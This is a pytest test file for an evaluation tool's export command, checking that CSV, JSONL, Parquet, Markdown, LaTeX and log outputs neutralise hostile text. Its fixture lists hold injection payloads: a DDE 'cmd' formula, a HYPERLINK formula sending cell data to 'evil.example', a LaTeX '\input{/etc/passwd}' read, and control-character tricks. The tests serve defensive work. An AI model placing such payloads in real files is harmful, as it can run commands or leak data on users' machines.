"""python -m evaluation export: what other programs read back from the files."""

import csv
import io
import json
import logging
import math
import re
import sys
import unicodedata

import pandas
import pyarrow.parquet
import pytest

from evaluation import __main__ as cli
from evaluation.export.comparison_text import latex_text, markdown_text
from evaluation.export.portable_text import portable_text, spreadsheet_cell
from evaluation.metrics.registry import METRIC_NAMES
from evaluation.rescoring.score_files import PassSpec, ScoreFile, fingerprint
from evaluation.store.recorded_run import read_run
from graph.support.errors import ConfigError, DatasetError, MissingExtraError
from graph.support.terminal import safe_line
from tests.fakes.command_lines import run_evaluation
from tests.fakes.markdown_reader import fences, tokens
from tests.fakes.project_files import ROOT
from tests.fakes.records import failed, record
from tests.fakes.report_pages import hostile
from tests.fakes.run_folders import contents, make_run, scored

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n",
    "  =cmd|' /C calc'!A0",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM",
    "\ufe631",
    "\u22121",
    "\u200b=1",
    "\ufeff=1",
    "\x00=1",
    "\x01+1",
    "\u3000=1",
    '=HYPERLINK("https://evil.example/"&A1)',
]
TEXTS = [
    *FORMULAS,
    "'quoted'",
    "'=1",
    "''",
    "json:",
    'json:"x"',
    '\'json:"\x00"',
    "",
    "NA",
    "null",
    "007",
    "1e5",
    "True",
    "2026-01-01",
    'a,"b";c\td',
    "a\r\nb\rc\nd",
    "\\end{tabular}\\input{/etc/passwd} $x_1^2$ ~#%&",
    "| a | b |\n|---|---|",
    "<think>secret</think>answer",
    "attachment://0123",
    "\x1a \x85 \u2028",
    "1. first",
    "2) second",
    "3.",
]
TEXTS += hostile(200 - len(TEXTS))
COUNT = len(TEXTS)


def hostile_records():
    """Return a record for each text, which is its question; other fields have other texts of the list."""

    def text(number):
        return TEXTS[number % COUNT]

    records = []
    for index in range(COUNT):
        fields = {"eval_id": text(index + 1), "question": text(index), "reference": text(index + 2)}
        if index % 10 == 9:
            error = {"type": "ValueError", "message": text(index), "of_question": True}
            records.append({**failed(index), **fields, "error": error})
        else:
            metrics = {**dict.fromkeys(METRIC_NAMES, index / COUNT), "LLM_judge": None}
            answer = {"answer": text(index + 3), "reasoning": text(index + 4)}
            records.append(record(index, **fields, **answer, metrics=metrics))
    return records


@pytest.fixture(scope="module")
def records():
    return hostile_records()


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory, records):
    return make_run(tmp_path_factory.mktemp("runs") / "=run'", records, results=False)


@pytest.fixture
def export(monkeypatch, tmp_path):
    """Run the command in this process; return the path of the file."""

    def run(*arguments):
        out = tmp_path / "export.out"
        monkeypatch.setattr(
            sys, "argv", ["evaluation", "export", *map(str, arguments), "--out", str(out)]
        )
        assert cli.main() == 0
        return out

    return run


@pytest.fixture
def two(tmp_path):
    return [
        make_run(tmp_path / "b", scored([0.2, 0.3, 0.4]), config="keyword"),
        make_run(tmp_path / "a", scored([0.3, 0.5, None]), config="semantic"),
    ]


@pytest.fixture(scope="module")
def original_text():
    """Return the function of docs/export.md."""
    namespace = {}
    code = fences((ROOT / "docs" / "export.md").read_text(encoding="utf-8"))
    [source] = [block for block in code if "def original_text" in block]
    exec(source, namespace)
    return namespace["original_text"]


def csv_rows(path):
    csv.field_size_limit(2**31 - 1)
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def pandas_csv_rows(path):
    return pandas.read_csv(path, dtype=str, keep_default_na=False).to_dict("records")


def json_rows(path):
    return [json.loads(line) for line in path.read_bytes().splitlines()]


def pandas_json_rows(path):
    frame = pandas.read_json(path, lines=True, dtype=False, convert_dates=False, precise_float=True)
    return frame.to_dict("records")


def parquet_rows(path):
    return pyarrow.parquet.read_table(path).to_pylist()


def pandas_parquet_rows(path):
    return pandas.read_parquet(path).to_dict("records")


READERS = [
    ("csv", csv_rows),
    ("csv", pandas_csv_rows),
    ("jsonl", json_rows),
    ("jsonl", pandas_json_rows),
    ("parquet", parquet_rows),
    ("parquet", pandas_parquet_rows),
]


def is_missing(value):
    return value is None or value == "" or value != value


@pytest.mark.parametrize(
    ("kind", "read"), READERS, ids=lambda value: getattr(value, "__name__", value)
)
def test_hostile_texts_are_read_back_from_wide_rows(
    export, hostile_run, records, original_text, kind, read
):
    rows = read(export(hostile_run, "--to", kind, "--wide"))
    assert len(rows) == COUNT
    for row, expected in zip(rows, records, strict=True):

        def text(name, row=row):
            return original_text(row[name], from_csv=kind == "csv")

        assert (text("run"), int(row["index"])) == ("=run'", expected["index"])
        for name in ("eval_id", "question", "reference"):
            assert text(name) == expected[name]
        assert is_missing(row["LLM_judge"])
        if expected["error"] is None:
            assert (row["status"], text("answer")) == ("answered", expected["answer"])
            assert float(row["BLEU"]) == expected["metrics"]["BLEU"]
            assert int(row["tokens"]) > 0
            assert is_missing(row["error"])
        else:
            assert row["status"] == "failed"
            assert text("error") == f"ValueError: {expected['error']['message']}"
            unknown = ("BLEU", "answer", "tokens", "estimated_calls", "seconds")
            assert all(is_missing(row[name]) for name in unknown)


@pytest.mark.parametrize(
    ("kind", "read"), READERS, ids=lambda value: getattr(value, "__name__", value)
)
def test_long_rows_hold_every_question_and_metric(
    export, hostile_run, records, original_text, kind, read
):
    rows = read(export(hostile_run, "--to", kind))
    expected = [(entry, metric) for entry in records for metric in METRIC_NAMES]
    assert len(rows) == len(expected)
    for row, (entry, metric) in zip(rows, expected, strict=True):
        assert original_text(row["eval_id"], from_csv=kind == "csv") == entry["eval_id"]
        assert row["metric"] == metric
        score = entry["metrics"].get(metric)
        assert is_missing(row["score"]) if score is None else float(row["score"]) == score
        status = "failed" if entry["error"] else "unscored" if score is None else "scored"
        assert row["status"] == status


@pytest.mark.parametrize("wide", [True, False])
def test_no_cell_of_csv_is_a_formula(export, hostile_run, wide):
    path = export(hostile_run, "--to", "csv", *(["--wide"] if wide else []))
    with path.open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    for cell in cells:
        visible = [
            c for c in cell if not c.isspace() and unicodedata.category(c) not in ("Cc", "Cf")
        ]
        assert "".join(visible[:1]) not in {*"=+-@\u2212\ufe63\uff1d\uff0b\uff0d\uff20"}
        assert not cell.startswith(("\t", "\r", "\n"))
        assert "\0" not in cell


def test_numbers_stay_numbers(export, tmp_path):
    path = export(make_run(tmp_path / "run", scored([0.00001])), "--to", "csv")
    assert ',"BLEU",1e-05,"scored","",' in path.read_text(encoding="utf-8").splitlines()[1]


@pytest.mark.parametrize(
    "text", ["", "NA", "007", "a =1", "1-2", "it's", "a json:", "a\n=1", "<b>", "\u00e9"]
)
def test_other_texts_are_as_they_are(text):
    assert portable_text(text) == spreadsheet_cell(text) == text


@pytest.mark.parametrize("text", [*FORMULAS, "'", "'=1"])
def test_what_a_spreadsheet_could_run_is_a_text_there(text):
    changed = "json:" if "\0" in text else "'"
    assert spreadsheet_cell(text).startswith(changed)
    assert portable_text(text) == text


def test_a_metric_with_the_name_of_a_formula_is_a_column(export, tmp_path):
    odd = [record(0, metrics={**dict.fromkeys(METRIC_NAMES, 0.5), "=evil": 0.25})]
    [row] = csv_rows(
        export(make_run(tmp_path / "run", odd, results=False), "--to", "csv", "--wide")
    )
    assert row["'=evil"] == "0.25"


def test_a_metric_with_the_name_of_another_column_is_refused(export, tmp_path):
    odd = [record(0, metrics={**dict.fromkeys(METRIC_NAMES, 0.5), "answer": 0.25})]
    folder = make_run(tmp_path / "run", odd, results=False)
    with pytest.raises(DatasetError, match="without --wide"):
        export(folder, "--to", "csv", "--wide")
    assert len(csv_rows(export(folder, "--to", "csv"))) == len(METRIC_NAMES) + 1


def test_runs_of_other_questions_share_a_file_of_rows_and_no_comparison(export, tmp_path):
    folders = [
        make_run(tmp_path / "x" / "run", scored([0.1]), config="keyword"),
        make_run(tmp_path / "y" / "run", [record(0, question="another?")], config="semantic"),
    ]
    rows = json_rows(export(*folders, "--to", "jsonl", "--wide"))
    assert [(row["run"], row["question"]) for row in rows] == [
        (str(folders[0]), "why 0?"),
        (str(folders[1]), "another?"),
    ]
    for kind in ("latex", "markdown"):
        with pytest.raises(DatasetError, match="share no finished question"):
            export(*folders, "--to", kind)


def add_pass(folder):
    """Score the first question of a run in a pass of another judge; leave the second unscored."""
    run = read_run(folder)
    scores = ScoreFile(run, PassSpec("judge", "other", ("LLM_judge",), {"model": "other"}))
    scores.append(
        [
            {
                "index": index,
                "of": fingerprint(run.records[index]),
                "scores": {"LLM_judge": value},
                "reasons": {} if value else {"LLM_judge": "=no grade"},
                "evidence": [],
            }
            for index, value in ((0, 0.75), (1, None))
        ]
    )
    scores.close()


def test_scores_of_a_pass_and_their_reasons_are_rows(export, tmp_path):
    folder = make_run(tmp_path / "run", scored([0.1, 0.2, 0.3]))
    add_pass(folder)
    rows = [row for row in json_rows(export(folder, "--to", "jsonl")) if "@" in row["metric"]]
    assert [(row["score"], row["status"], row["error"]) for row in rows] == [
        (0.75, "scored", None),
        (None, "unscored", "=no grade"),
        (None, "unscored", "not scored yet"),
    ]


def test_seconds_of_cached_calls_are_not_known(export, tmp_path):
    entry = record(0)
    entry["steps"][0]["replies"][0]["cached"] = True
    [row] = json_rows(export(make_run(tmp_path / "run", [entry]), "--to", "jsonl", "--wide"))
    assert row["seconds"] is None
    assert row["tokens"] == 10


def test_an_unfinished_run_is_exported_with_a_warning(export, tmp_path, caplog):
    folder = make_run(tmp_path / "run", scored([0.1]), questions=3, results=False)
    with caplog.at_level(logging.WARNING, "opencoder"):
        assert len(json_rows(export(folder, "--to", "jsonl", "--wide"))) == 1
    assert "unfinished, 1 of 3 questions is done" in caplog.text


@pytest.mark.parametrize(("kind", "count"), [("csv", 1), ("csv", 2), ("latex", 1), ("markdown", 2)])
def test_each_unfinished_run_has_one_warning(export, tmp_path, caplog, kind, count):
    folders = [
        make_run(tmp_path / c, scored([0.1, 0.2]), config=c, questions=3, results=False)
        for c in ("keyword", "semantic")[:count]
    ]
    with caplog.at_level(logging.WARNING, "opencoder"):
        export(*folders, "--to", kind)
    assert caplog.text.count("unfinished, ") == count


def test_parquet_needs_its_extra(export, two, monkeypatch):
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(MissingExtraError, match=r"pip install 'opencoder\[parquet\]'"):
        export(*two, "--to", "parquet")


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["--to", "latex", "--wide"], "--wide is for csv, jsonl, parquet"),
        (["--to", "inspect"], "holds one run"),
    ],
)
def test_wrong_flags_are_refused(export, two, arguments, message):
    with pytest.raises(ConfigError, match=message):
        export(*two, *arguments)


def test_a_run_folder_is_not_written_to(monkeypatch, two):
    before = contents(two[0])
    ended = run_evaluation(
        monkeypatch, "export", *two, "--to", "jsonl", "--out", two[0] / "journal.jsonl"
    )
    assert ended.code == 2
    assert "lies in the run folder" in ended.err
    assert contents(two[0]) == before


def test_without_a_file_the_export_goes_to_stdout(monkeypatch, export, two):
    path = export(*two, "--to", "csv", "--wide")
    ended = run_evaluation(monkeypatch, "export", *two, "--to", "csv", "--wide")
    assert (ended.code, ended.err) == (0, "")
    assert ended.out == path.read_text(encoding="utf-8")


def test_a_terminal_gets_no_control_characters(monkeypatch, capsys, hostile_run):
    class Terminal(io.StringIO):
        def isatty(self):
            return True

    monkeypatch.setattr(sys, "stdout", Terminal())
    monkeypatch.setattr(
        sys, "argv", ["evaluation", "export", str(hostile_run), "--to", "csv", "--wide"]
    )
    assert cli.main() == 0
    text = sys.stdout.getvalue()
    assert "<U+202E>gnp.exe<U+202C>" in text
    assert not {*"\x1b\x07\x00\u202e"} & {*text}


def test_parquet_does_not_go_to_a_terminal(monkeypatch, two):
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True, raising=False)
    monkeypatch.setattr(sys, "argv", ["evaluation", "export", *map(str, two), "--to", "parquet"])
    with pytest.raises(ConfigError, match="name a file with --out"):
        cli.main()


MARKUP = {
    "link_open",
    "image",
    "html_inline",
    "html_block",
    "code_inline",
    "code_block",
    "fence",
    "em_open",
    "strong_open",
    "heading_open",
    "ordered_list_open",
}


def markdown_tables(text):
    """Return the rows of cells of each table, as a reader of Markdown sees them."""
    rows = []
    for token in tokens(text):
        if token.type == "table_open":
            rows.append([])
        elif token.type == "tr_open":
            rows[-1].append([])
        elif token.type == "inline" and rows and rows[-1]:
            rows[-1][-1].append("".join(part.content for part in token.children))
    return rows


def test_markdown_holds_means_and_paired_differences(export, two):
    text = export(*two, "--to", "markdown").read_text(encoding="utf-8")
    means, differences = markdown_tables(text)[:2]
    assert means[0] == ["run", "metric", "mean", "95 % interval", "n", "unscored", "failed"]
    assert means[1][:3] == ["keyword", "BLEU", "0.300"]
    assert means[1][4:] == ["3", "0", "0"]
    assert means[7][4:] == ["2", "1", "0"]
    assert differences[1][:8] == [
        "semantic",
        "keyword",
        "BLEU",
        "not distinguishable",
        "2",
        "1",
        "0",
        "+.150",
    ]
    assert "not distinguishable does not say that two runs are equal." in text


def test_one_run_has_means_alone(export, two):
    text = export(two[0], "--to", "markdown").read_text(encoding="utf-8")
    assert text.count("## ") == 1
    assert "- The 95 % interval of a mean over n scored questions is" in text
    assert "Paired" not in export(two[0], "--to", "latex").read_text(encoding="utf-8")


@pytest.mark.parametrize("kind", ["markdown", "latex"])
@pytest.mark.parametrize("count", [1, 2])
def test_means_hold_the_scores_of_a_pass_over_one_run_alone(export, two, kind, count):
    add_pass(two[0])
    text = export(*two[:count], "--to", kind).read_text(encoding="utf-8").replace("&#8203;", "")
    [row] = [line for line in text.splitlines() if re.search(r"judge\\?@\w{6} ", line)]
    assert re.findall(r"[\d.]+", row)[-4:] == ["0.750", "1", "2", "0"]
    assert re.search(r"Metrics \\?@\w{6} are scored by judge, other\.", text)


def test_latex_has_a_rule_before_each_pair_of_runs(export, two, tmp_path):
    third = make_run(tmp_path / "c", scored([0.1, 0.2, 0.4]), config="hybrid")
    text = export(*two, third, "--to", "latex").read_text(encoding="utf-8")
    means, differences = text.split("% Paired differences")
    assert (means.count(r"\midrule"), differences.count(r"\midrule")) == (3, 3)


def test_markdown_shows_a_text_word_for_word():
    for text in (text for text in TEXTS if len(text) < 1000):
        for page in (f"| {markdown_text(text)} |\n| --- |\n", f"- {markdown_text(text)}\n"):
            parts = [token for token in tokens(page) if token.type != "inline"]
            visible = "".join(token.content for token in parts if token.type == "text")
            expected = " ".join(safe_line(text).split())
            assert visible.replace("\u200b", "") == expected.replace("\u200b", "")
            assert not {token.type for token in parts} & MARKUP


def test_markdown_makes_no_address_a_link():
    text = "https://a.b www.c.d :bug: 1. end."
    assert markdown_text(text) == r"https\://a\.b www\.c\.d \:bug\: 1\. end."


@pytest.mark.parametrize("text", ["@name", "x@272536", "e@f.g", "#12", "a/b#12", "GH-12", "gh-1"])
def test_markdown_refers_to_no_user_or_issue_of_github(text):
    # GitHub looks for references in the text of the page, where no backslash is left.
    parts = tokens(f"- {markdown_text(text)}\n")
    visible = "".join(token.content for token in parts if token.type == "text")
    assert visible.replace("\u200b", "") == text
    assert not re.search(r"@\w|#\d|gh-\d", visible, re.IGNORECASE)


ESCAPES = re.compile(
    r"\\(?:textbackslash|textasciicircum|textasciitilde|textless|textgreater|textbar)\{\}"
    r"|\\symbol\{(?:34|39|96)\}|\\[{}$&#%_]|\{[\[\]*]\}|-\{\}"
)


def test_latex_has_no_special_character_of_a_text():
    special = re.compile(r"[^\x20-\x7e]|[\\{}$&#%_^~\[\]*<>|\"'`]")
    for text in TEXTS:
        assert not special.search(ESCAPES.sub("", latex_text(text)))


def test_latex_is_a_table_for_booktabs(export, tmp_path):
    evil = "[b] & \\\\ %\n\u202e--*"
    folders = [
        make_run(tmp_path / "b", scored([0.2, 0.3, 0.4]), config="keyword"),
        make_run(tmp_path / "a", scored([0.3, 0.1, 0.2]), config=evil, results=False),
    ]
    text = export(*folders, "--to", "latex").read_text(encoding="ascii")
    bodies = re.findall(r"\\begin\{tabular\}\{(l+r+)\}\n(.*?)\\end\{tabular\}", text, re.DOTALL)
    assert len(bodies) == 2
    for columns, body in bodies:
        rows = [
            line for line in body.splitlines() if not re.fullmatch(r"\\(top|mid|bottom)rule", line)
        ]
        assert len(rows) > len(METRIC_NAMES)
        for row in rows:
            plain = ESCAPES.sub("", row)
            assert plain.endswith(r" \\")
            assert plain.count("&") == len(columns) - 1
            assert not set("\\{}#%_^~[]*") & set(plain[:-3])
            assert set(re.findall(r"\$[^$]*\$", plain)) <= {"$-$", "$+$"}
        assert body.startswith("\\toprule\n")
        assert body.endswith("\\bottomrule\n")
    comments = [line for line in text.splitlines() if "needs" in line.lower()]
    assert comments == [r"% Needs \usepackage{booktabs}."]


def inspect_file(export, folder, tmp_path):
    return export(folder, "--to", "inspect").rename(tmp_path / "run.json")


def test_an_inspect_log_has_its_structure(export, hostile_run, records, tmp_path, original_text):
    log = json.loads(inspect_file(export, hostile_run, tmp_path).read_bytes())
    assert list(log) == ["version", "status", "eval", "plan", "results", "stats", "samples"]
    assert (log["version"], log["status"], log["eval"]["model"]) == (2, "success", "m")
    assert log["eval"]["created"] == "2026-01-01T00:00:00+00:00"
    answered = COUNT - COUNT // 10
    assert (log["results"]["total_samples"], log["results"]["completed_samples"]) == (
        COUNT,
        answered,
    )
    means = {score["name"]: score for score in log["results"]["scores"]}
    assert list(means) == list(METRIC_NAMES)
    assert (means["BLEU"]["scored_samples"], means["BLEU"]["unscored_samples"]) == (answered, 0)
    assert (means["LLM_judge"]["unscored_samples"], means["LLM_judge"]["metrics"]) == (answered, {})
    for sample, expected in zip(log["samples"], records, strict=True):
        assert original_text(sample["id"], from_csv=False) == expected["eval_id"]
        assert ("error" in sample) is (expected["error"] is not None)
        assert ("scores" in sample) is (expected["error"] is None)
        assert math.isnan(sample.get("scores", {}).get("LLM_judge", {"value": math.nan})["value"])


def test_inspect_reads_the_log(export, hostile_run, records, tmp_path, original_text):
    inspect_log = pytest.importorskip("inspect_ai.log", reason="inspect_ai is no part of an extra")
    path = inspect_file(export, hostile_run, tmp_path)
    header = inspect_log.read_eval_log(str(path), header_only=True)
    assert (header.status, header.eval.task) == ("success", "semantic")
    log = inspect_log.read_eval_log(str(path))
    assert len(log.samples) == COUNT
    for sample, expected in zip(log.samples, records, strict=True):

        def same(text, stored):
            return original_text(text, from_csv=False) == stored

        assert same(sample.id, expected["eval_id"])
        assert same(sample.input, expected["question"])
        assert same(sample.target, expected["reference"])
        if expected["error"] is None:
            assert same(sample.output.completion, expected["answer"])
            assert same(sample.output.message.text, expected["answer"])
            assert same(sample.metadata["reasoning"], expected["reasoning"])
            assert sample.scores["BLEU"].value == expected["metrics"]["BLEU"]
            assert math.isnan(sample.scores["LLM_judge"].value)
        else:
            assert same(sample.error.message, f"ValueError: {expected['error']['message']}")
            assert not sample.scores


def test_equal_ids_of_questions_give_way_to_the_index(export, tmp_path):
    folder = make_run(tmp_path / "run", [record(0, eval_id="x"), record(1, eval_id="x")])
    log = json.loads(inspect_file(export, folder, tmp_path).read_bytes())
    assert [sample["id"] for sample in log["samples"]] == [0, 1]
    assert [sample["metadata"]["eval_id"] for sample in log["samples"]] == ["x", "x"]
